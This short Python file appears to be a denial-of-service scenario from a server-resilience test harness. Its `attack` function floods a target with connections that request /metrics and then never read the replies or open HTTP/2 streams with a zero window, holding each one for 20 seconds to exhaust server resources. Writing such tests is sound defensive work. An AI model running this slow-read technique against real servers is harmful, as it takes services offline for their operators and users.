"""Clients ask for /metrics on streams without a window, and on sockets that nobody reads."""

import time

import wire


def attack(victim):
    def hold(number):
        if number % 2:
            sock = victim.connect(receive_buffer=4096)
            sock.sendall(wire.head("/metrics") * 8)
        else:
            sock = victim.http2(window=0)
            sock.send(b"".join(sock.request("/metrics")[1] for _ in range(16)))
        time.sleep(20)
        sock.close()

    wire.crowd(8 * victim.scale, hold)
    time.sleep(0.5)
    victim.begun()
